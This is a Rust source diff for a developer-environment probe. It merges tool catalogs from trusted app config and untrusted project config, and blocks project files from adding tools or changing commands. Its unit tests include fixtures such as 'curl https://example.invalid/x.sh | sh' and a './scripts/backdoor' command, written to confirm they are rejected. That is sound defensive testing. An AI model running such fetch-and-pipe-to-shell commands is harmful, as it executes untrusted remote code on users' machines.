@@ -0,0 +1,614 @@
+use std::collections::HashSet;
+use std::path::{Path, PathBuf};
+
+use regex::Regex;
+use serde::Deserialize;
+use serde_json::Value;
+
+use crate::contracts::{ToolCatalogEntry, ToolCatalogError, ToolCatalogReport, ToolInstallRecipe};
+use crate::install::install_specs;
+
+use super::specs::{default_tool_specs, ToolSpec, UpstreamSource};
+
+/// 覆盖应用配置目录，便于测试与便携部署
+pub const CONFIG_DIR_ENV: &str = "DEVENVPROBE_CONFIG_DIR";
+pub const APP_IDENTIFIER: &str = "com.mypc.dev-env-probe";
+/// 应用配置目录下的工具目录文件，按顺序取第一个存在的
+pub const APP_CATALOG_FILES: [&str; 2] = ["tools.toml", "tools.json"];
+/// 项目根目录下的配置文件，`[[tools]]` 段与应用目录格式相同
+pub const PROJECT_CATALOG_FILES: [&str; 2] = [".devenvprobe.toml", ".devenvprobe.json"];
+
+pub const DEFAULT_CUSTOM_CATEGORY: &str = "Custom";
+const MIN_TIMEOUT_MS: u64 = 100;
+const MAX_TIMEOUT_MS: u64 = 120_000;
+const MAX_RETRIES: u32 = 3;
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct CatalogEntry {
+    name: String,
+    command: Option<String>,
+    args: Option<Vec<String>>,
+    category: Option<String>,
+    #[serde(alias = "timeoutMs")]
+    timeout_ms: Option<u64>,
+    retries: Option<u32>,
+    #[serde(alias = "versionRegex")]
+    version_regex: Option<String>,
+    #[serde(alias = "installKey")]
+    install_key: Option<String>,
+    install: Option<ToolInstallRecipe>,
+    upstream: Option<String>,
+}
+
+/// 合并后的工具目录：内置清单 + 应用目录 + 项目目录（后者覆盖前者）
+#[derive(Debug, Clone, Default)]
+pub struct ToolCatalog {
+    pub specs: Vec<ToolSpec>,
+    pub sources: Vec<String>,
+    pub errors: Vec<ToolCatalogError>,
+}
+
+impl ToolCatalog {
+    pub fn to_report(&self) -> ToolCatalogReport {
+        ToolCatalogReport {
+            tools: self
+                .specs
+                .iter()
+                .map(|spec| ToolCatalogEntry {
+                    name: spec.name.clone(),
+                    command: spec.command.clone(),
+                    args: spec.args.clone(),
+                    category: spec.category.clone(),
+                    install_key: spec.install_key.clone(),
+                    timeout_ms: spec.timeout_ms,
+                    retries: spec.retries,
+                    version_regex: spec.version_regex.clone(),
+                    install: spec.install.clone(),
+                    upstream: spec.upstream.as_ref().map(UpstreamSource::to_config),
+                    source: spec.source.clone(),
+                })
+                .collect(),
+            sources: self.sources.clone(),
+            errors: self.errors.clone(),
+        }
+    }
+}
+
+pub fn app_config_dir() -> Option<PathBuf> {
+    if let Some(dir) = std::env::var_os(CONFIG_DIR_ENV).filter(|value| !value.is_empty()) {
+        return Some(PathBuf::from(dir));
+    }
+
+    dirs::config_dir().map(|dir| dir.join(APP_IDENTIFIER))
+}
+
+/// 项目根目录下的 `.devenvprobe.toml` / `.devenvprobe.json`
+pub fn find_project_config(project_dir: &Path) -> Option<PathBuf> {
+    first_existing(project_dir, &PROJECT_CATALOG_FILES)
+}
+
+fn app_catalog_file() -> Option<PathBuf> {
+    app_config_dir().and_then(|dir| first_existing(&dir, &APP_CATALOG_FILES))
+}
+
+pub fn load_tool_catalog(project_path: Option<&Path>) -> ToolCatalog {
+    let project_file = project_path.and_then(find_project_config);
+    build_tool_catalog(app_catalog_file().as_deref(), project_file.as_deref())
+}
+
+pub fn build_tool_catalog(app_file: Option<&Path>, project_file: Option<&Path>) -> ToolCatalog {
+    let mut catalog = ToolCatalog {
+        specs: default_tool_specs(),
+        ..ToolCatalog::default()
+    };
+
+    for (file, trusted) in [(app_file, true), (project_file, false)] {
+        let Some(file) = file else {
+            continue;
+        };
+        let source = file.to_string_lossy().to_string();
+        match read_catalog_entries(file) {
+            Ok(entries) => {
+                catalog.sources.push(source.clone());
+                merge_entries(&mut catalog, entries, &source, trusted);
+            }
+            Err(message) => catalog.errors.push(ToolCatalogError {
+                source,
+                index: None,
+                name: None,
+                message,
+            }),
+        }
+    }
+
+    catalog
+}
+
+/// 供安装模块查找应用目录与项目目录中声明的安装方式；
+/// 项目文件随仓库分发，不可信，其中新声明的 `command` 安装方式一律拒绝执行
+pub fn find_catalog_install_recipe(
+    install_key: &str,
+    project_path: Option<&Path>,
+) -> Result<Option<ToolInstallRecipe>, String> {
+    let project_file = project_path.and_then(find_project_config);
+    find_install_recipe_in(app_catalog_file().as_deref(), project_file.as_deref(), install_key)
+}
+
+fn find_install_recipe_in(
+    app_file: Option<&Path>,
+    project_file: Option<&Path>,
+    install_key: &str,
+) -> Result<Option<ToolInstallRecipe>, String> {
+    let find_recipe = |catalog: ToolCatalog| {
+        catalog
+            .specs
+            .into_iter()
+            .find(|spec| spec.install_key.as_deref() == Some(install_key))
+            .and_then(|spec| spec.install)
+    };
+
+    let Some(recipe) = find_recipe(build_tool_catalog(app_file, project_file)) else {
+        return Ok(None);
+    };
+    // 与不含项目文件时的结果一致，说明来自应用目录（含项目条目沿用的情况）
+    if recipe.command.is_some()
+        && project_file.is_some()
+        && find_recipe(build_tool_catalog(app_file, None)).as_ref() != Some(&recipe)
+    {
+        return Err(format!(
+            "安装项 {} 的自定义命令来自项目配置文件，出于安全考虑不会执行；请改用 winget / npm，或在应用配置目录的工具目录中声明",
+            install_key
+        ));
+    }
+    Ok(Some(recipe))
+}
+
+/// 依次按命令名、工具名、安装键匹配，如 `node`、`Node.js`、`nodejs-lts`
+pub fn find_tool_spec<'a>(specs: &'a [ToolSpec], key: &str) -> Option<&'a ToolSpec> {
+    specs
+        .iter()
+        .find(|spec| spec.command.eq_ignore_ascii_case(key))
+        .or_else(|| specs.iter().find(|spec| spec.name.eq_ignore_ascii_case(key)))
+        .or_else(|| {
+            specs
+                .iter()
+                .find(|spec| spec.install_key.as_deref().is_some_and(|install_key| install_key.eq_ignore_ascii_case(key)))
+        })
+}
+
+fn first_existing(dir: &Path, names: &[&str]) -> Option<PathBuf> {
+    names.iter().map(|name| dir.join(name)).find(|path| path.is_file())
+}
+
+/// 按扩展名解析 TOML / JSON 配置文件，统一为 JSON 值便于逐项校验
+pub fn read_config_document(path: &Path) -> Result<Value, String> {
+    let content = std::fs::read_to_string(path).map_err(|error| format!("读取配置文件失败: {}", error))?;
+    let is_json = path
+        .extension()
+        .is_some_and(|extension| extension.eq_ignore_ascii_case("json"));
+
+    if is_json {
+        serde_json::from_str(&content).map_err(|error| format!("JSON 解析失败: {}", error))
+    } else {
+        toml::from_str(&content).map_err(|error| format!("TOML 解析失败: {}", error))
+    }
+}
+
+fn read_catalog_entries(path: &Path) -> Result<Vec<Value>, String> {
+    let document = read_config_document(path)?;
+
+    match document.get("tools") {
+        None => Ok(Vec::new()),
+        Some(Value::Array(entries)) => Ok(entries.clone()),
+        Some(_) => Err("tools 必须是数组（TOML 中写作 [[tools]]）".to_string()),
+    }
+}
+
+/// trusted 为 false 表示项目文件：随仓库分发，不能决定探测时执行什么命令
+fn merge_entries(catalog: &mut ToolCatalog, entries: Vec<Value>, source: &str, trusted: bool) {
+    let mut seen = HashSet::new();
+
+    for (index, raw) in entries.into_iter().enumerate() {
+        let raw_name = raw.get("name").and_then(Value::as_str).map(ToString::to_string);
+        let mut push_error = |message: String| {
+            catalog.errors.push(ToolCatalogError {
+                source: source.to_string(),
+                index: Some(index),
+                name: raw_name.clone(),
+                message,
+            });
+        };
+
+        let entry: CatalogEntry = match serde_json::from_value(raw) {
+            Ok(entry) => entry,
+            Err(error) => {
+                push_error(format!("字段无效: {}", error));
+                continue;
+            }
+        };
+
+        let name = entry.name.trim().to_string();
+        if seen.contains(&name.to_lowercase()) {
+            push_error(format!("同一文件中重复定义了工具 {}", name));
+            continue;
+        }
+
+        let existing = catalog
+            .specs
+            .iter()
+            .position(|spec| spec.name.eq_ignore_ascii_case(&name));
+        if !trusted {
+            if let Err(message) = check_untrusted_probe(&entry, existing.map(|position| &catalog.specs[position])) {
+                push_error(message);
+                continue;
+            }
+        }
+        match validate_entry(entry, existing.map(|position| &catalog.specs[position])) {
+            Ok(mut spec) => {
+                seen.insert(name.to_lowercase());
+                spec.source = Some(source.to_string());
+                match existing {
+                    Some(position) => catalog.specs[position] = spec,
+                    None => catalog.specs.push(spec),
+                }
+            }
+            Err(message) => push_error(message),
+        }
+    }
+}
+
+/// 项目文件只能调整超时、分类等字段；command / args 必须与内置清单和应用目录中的定义一致，
+/// 否则打开或在 CI 中检查一个仓库就会执行其中任意的命令
+fn check_untrusted_probe(entry: &CatalogEntry, base: Option<&ToolSpec>) -> Result<(), String> {
+    let Some(base) = base else {
+        return Err(format!(
+            "项目配置文件不能新增工具 {}：探测命令需在应用配置目录的工具目录中声明",
+            entry.name.trim()
+        ));
+    };
+    let command_changed = entry.command.as_deref().is_some_and(|command| command.trim() != base.command);
+    let args_changed = entry.args.as_ref().is_some_and(|args| *args != base.args);
+    if command_changed || args_changed {
+        return Err(format!(
+            "项目配置文件不能修改 {} 的 command / args，出于安全考虑已忽略该条目；请在应用配置目录的工具目录中声明",
+            base.name
+        ));
+    }
+    Ok(())
+}
+
+/// 校验单个条目；覆盖已有工具时未填写的字段沿用原值
+fn validate_entry(entry: CatalogEntry, base: Option<&ToolSpec>) -> Result<ToolSpec, String> {
+    let name = entry.name.trim().to_string();
+    if name.is_empty() {
+        return Err("name 不能为空".to_string());
+    }
+
+    // 覆盖了命令、参数或版本正则时，内置的文件指纹不再对应，改为执行命令
+    let keeps_probe = entry.command.is_none() && entry.args.is_none() && entry.version_regex.is_none();
+    let command = match (entry.command, base) {
+        (Some(command), _) => command.trim().to_string(),
+        (None, Some(base)) => base.command.clone(),
+        (None, None) => return Err("新增工具必须提供 command".to_string()),
+    };
+    if command.is_empty() {
+        return Err("command 不能为空".to_string());
+    }
+
+    if let Some(timeout_ms) = entry.timeout_ms {
+        if !(MIN_TIMEOUT_MS..=MAX_TIMEOUT_MS).contains(&timeout_ms) {
+            return Err(format!("timeout_ms 需在 {}-{} 之间", MIN_TIMEOUT_MS, MAX_TIMEOUT_MS));
+        }
+    }
+
+    if entry.retries.is_some_and(|retries| retries > MAX_RETRIES) {
+        return Err(format!("retries 不能超过 {}", MAX_RETRIES));
+    }
+
+    if let Some(pattern) = &entry.version_regex {
+        Regex::new(pattern).map_err(|error| format!("version_regex 无效: {}", error))?;
+    }
+
+    if let Some(recipe) = &entry.install {
+        let methods = [&recipe.winget, &recipe.npm, &recipe.command]
+            .iter()
+            .filter(|value| value.as_deref().is_some_and(|value| !value.trim().is_empty()))
+            .count();
+        if methods != 1 {
+            return Err("install 需且只能指定 winget、npm、command 之一".to_string());
+        }
+    }
+
+    let upstream = match entry.upstream.as_deref() {
+        Some(value) => UpstreamSource::parse(value)?,
+        None => base.and_then(|base| base.upstream.clone()),
+    };
+
+    let install_key = match entry.install_key.map(|key| key.trim().to_string()) {
+        Some(key) if key.is_empty() => return Err("install_key 不能为空".to_string()),
+        Some(key) => {
+            let inherited = base.and_then(|base| base.install_key.as_deref()) == Some(key.as_str());
+            if entry.install.is_none() && !inherited && !is_builtin_install_key(&key) {
+                return Err(format!("install_key {} 不是内置安装项，请同时提供 install", key));
+            }
+            Some(key)
+        }
+        None if entry.install.is_some() => Some(slugify(&name)),
+        None => base.and_then(|base| base.install_key.clone()),
+    };
+
+    Ok(ToolSpec {
+        name,
+        command,
+        args: entry
+            .args
+            .or_else(|| base.map(|base| base.args.clone()))
+            .unwrap_or_else(|| vec!["--version".to_string()]),
+        category: entry
+            .category
+            .map(|category| category.trim().to_string())
+            .filter(|category| !category.is_empty())
+            .or_else(|| base.map(|base| base.category.clone()))
+            .unwrap_or_else(|| DEFAULT_CUSTOM_CATEGORY.to_string()),
+        install_key,
+        timeout_ms: entry.timeout_ms.or_else(|| base.and_then(|base| base.timeout_ms)),
+        retries: entry.retries.or_else(|| base.and_then(|base| base.retries)),
+        version_regex: entry
+            .version_regex
+            .or_else(|| base.and_then(|base| base.version_regex.clone())),
+        install: entry.install.or_else(|| base.and_then(|base| base.install.clone())),
+        source: None,
+        fingerprint: base.filter(|_| keeps_probe).and_then(|base| base.fingerprint.clone()),
+        upstream,
+    })
+}
+
+fn is_builtin_install_key(key: &str) -> bool {
+    install_specs().iter().any(|spec| spec.key == key)
+}
+
+fn slugify(name: &str) -> String {
+    let slug: String = name
+        .to_lowercase()
+        .chars()
+        .map(|ch| if ch.is_ascii_alphanumeric() { ch } else { '-' })
+        .collect();
+    slug.split('-').filter(|part| !part.is_empty()).collect::<Vec<_>>().join("-")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn write(dir: &Path, name: &str, content: &str) -> PathBuf {
+        let path = dir.join(name);
+        std::fs::write(&path, content).unwrap();
+        path
+    }
+
+    #[test]
+    fn toml_catalog_adds_tools_and_overrides_defaults() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = write(
+            dir.path(),
+            "tools.toml",
+            r#"
+[[tools]]
+name = "protoc"
+command = "protoc"
+category = "Build"
+timeout_ms = 3000
+retries = 2
+version_regex = 'libprotoc (\S+)'
+install = { winget = "Google.Protobuf" }
+
+[[tools]]
+name = "node.js"
+timeout_ms = 5000
+"#,
+        );
+
+        let catalog = build_tool_catalog(Some(&file), None);
+        assert!(catalog.errors.is_empty(), "{:?}", catalog.errors);
+        assert_eq!(catalog.specs.len(), default_tool_specs().len() + 1);
+
+        let protoc = catalog.specs.iter().find(|spec| spec.name == "protoc").unwrap();
+        assert_eq!(protoc.args, vec!["--version".to_string()]);
+        assert_eq!(protoc.install_key.as_deref(), Some("protoc"));
+        assert_eq!(protoc.retries, Some(2));
+
+        let node = catalog.specs.iter().find(|spec| spec.command == "node").unwrap();
+        assert_eq!(node.name, "node.js");
+        assert_eq!(node.timeout_ms, Some(5000));
+        assert_eq!(node.install_key.as_deref(), Some("nodejs-lts"));
+        assert!(node.source.is_some());
+    }
+
+    #[test]
+    fn project_catalog_overrides_app_catalog() {
+        let dir = tempfile::tempdir().unwrap();
+        let app = write(dir.path(), "tools.json", r#"{"tools":[{"name":"just","command":"just","category":"Build"}]}"#);
+        let project = write(
+            dir.path(),
+            ".devenvprobe.toml",
+            "[[tools]]\nname = \"just\"\ncommand = \"just\"\ntimeout_ms = 4000\n",
+        );
+
+        let catalog = build_tool_catalog(Some(&app), Some(&project));
+        assert!(catalog.errors.is_empty(), "{:?}", catalog.errors);
+        assert_eq!(catalog.sources.len(), 2);
+
+        let just = catalog.specs.iter().find(|spec| spec.name == "just").unwrap();
+        assert_eq!(just.timeout_ms, Some(4000));
+        assert_eq!(just.category, "Build");
+        assert_eq!(just.source.as_deref(), Some(project.to_string_lossy().as_ref()));
+    }
+
+    #[test]
+    fn project_install_recipes_are_found_but_custom_commands_refused() {
+        let dir = tempfile::tempdir().unwrap();
+        let app = write(
+            dir.path(),
+            "tools.toml",
+            "[[tools]]\nname = \"just\"\ncommand = \"just\"\ninstall = { command = \"cargo install just\" }\n",
+        );
+        let project = write(
+            dir.path(),
+            ".devenvprobe.toml",
+            r#"
+[[tools]]
+name = "protoc"
+command = "protoc"
+install = { winget = "Google.Protobuf" }
+
+[[tools]]
+name = "just"
+timeout_ms = 4000
+"#,
+        );
+        let evil = write(
+            dir.path(),
+            "evil.toml",
+            "[[tools]]\nname = \"just\"\ninstall = { command = \"curl https://example.invalid/x.sh\" }\n",
+        );
+
+        // 项目文件不能新增工具，连同其安装方式一起被忽略
+        assert!(find_install_recipe_in(Some(&app), Some(&project), "protoc").unwrap().is_none());
+        assert!(find_install_recipe_in(Some(&app), Some(&evil), "just").is_err());
+        // 项目条目沿用应用目录中的安装命令
+        let just = find_install_recipe_in(Some(&app), Some(&project), "just").unwrap().unwrap();
+        assert_eq!(just.command.as_deref(), Some("cargo install just"));
+    }
+
+    #[test]
+    fn project_files_cannot_change_probe_commands() {
+        let dir = tempfile::tempdir().unwrap();
+        let app = write(dir.path(), "tools.toml", "[[tools]]\nname = \"just\"\ncommand = \"just\"\n");
+        let project = write(
+            dir.path(),
+            ".devenvprobe.toml",
+            r#"
+[[tools]]
+name = "Node.js"
+command = "sh"
+args = ["-c", "curl https://example.invalid/x.sh | sh"]
+
+[[tools]]
+name = "just"
+args = ["--evaluate"]
+
+[[tools]]
+name = "backdoor"
+command = "./scripts/backdoor"
+
+[[tools]]
+name = "Node.js"
+timeout_ms = 5000
+"#,
+        );
+
+        let catalog = build_tool_catalog(Some(&app), Some(&project));
+        let failed: Vec<usize> = catalog.errors.iter().filter_map(|error| error.index).collect();
+        assert_eq!(failed, vec![0, 1, 2]);
+        assert!(catalog.errors.iter().all(|error| error.source == project.to_string_lossy()));
+
+        let node = catalog.specs.iter().find(|spec| spec.name == "Node.js").unwrap();
+        assert_eq!(node.command, "node");
+        assert_eq!(node.timeout_ms, Some(5000));
+        let just = catalog.specs.iter().find(|spec| spec.name == "just").unwrap();
+        assert_eq!(just.args, vec!["--version".to_string()]);
+        assert!(!catalog.specs.iter().any(|spec| spec.name == "backdoor"));
+    }
+
+    #[test]
+    fn upstream_defaults_to_builtin_and_can_be_declared_or_cleared() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = write(
+            dir.path(),
+            "tools.toml",
+            r#"
+[[tools]]
+name = "buf"
+command = "buf"
+upstream = "github:bufbuild/buf"
+
+[[tools]]
+name = "Helm"
+upstream = "none"
+
+[[tools]]
+name = "task"
+command = "task"
+upstream = "gitlab:go-task/task"
+"#,
+        );
+
+        let catalog = build_tool_catalog(Some(&file), None);
+        let spec = |name: &str| catalog.specs.iter().find(|spec| spec.name == name);
+        assert_eq!(spec("buf").unwrap().upstream, Some(UpstreamSource::github("bufbuild", "buf")));
+        assert_eq!(spec("Helm").unwrap().upstream, None);
+        assert_eq!(spec("Go").unwrap().upstream, Some(UpstreamSource::GoDev));
+        assert!(spec("task").is_none());
+        assert_eq!(catalog.errors.len(), 1);
+        assert_eq!(catalog.errors[0].name.as_deref(), Some("task"));
+
+        let report = catalog.to_report();
+        let buf = report.tools.iter().find(|tool| tool.name == "buf").unwrap();
+        assert_eq!(buf.upstream.as_deref(), Some("github:bufbuild/buf"));
+    }
+
+    #[test]
+    fn malformed_entries_are_reported_without_dropping_valid_ones() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = write(
+            dir.path(),
+            "tools.toml",
+            r#"
+[[tools]]
+name = "buf"
+
+[[tools]]
+name = "k9s"
+command = "k9s"
+version_regex = "("
+
+[[tools]]
+name = "sops"
+command = "sops"
+timeout_ms = 10
+
+[[tools]]
+name = "bazel"
+command = "bazel"
+install = { winget = "Bazel.Bazel", npm = "@bazel/bazelisk" }
+
+[[tools]]
+name = "just"
+command = "just"
+colour = "red"
+
+[[tools]]
+name = "k9s"
+command = "k9s"
+"#,
+        );
+
+        let catalog = build_tool_catalog(Some(&file), None);
+        let failed: Vec<usize> = catalog.errors.iter().filter_map(|error| error.index).collect();
+        assert_eq!(failed, vec![0, 1, 2, 3, 4]);
+        assert!(catalog.specs.iter().any(|spec| spec.name == "k9s"));
+        assert_eq!(catalog.specs.len(), default_tool_specs().len() + 1);
+    }
+
+    #[test]
+    fn unreadable_catalog_is_reported_as_file_error() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = write(dir.path(), "tools.toml", "tools = \"protoc\"");
+
+        let catalog = build_tool_catalog(Some(&file), None);
+        assert_eq!(catalog.errors.len(), 1);
+        assert_eq!(catalog.errors[0].index, None);
+        assert_eq!(catalog.specs.len(), default_tool_specs().len());
+    }
+}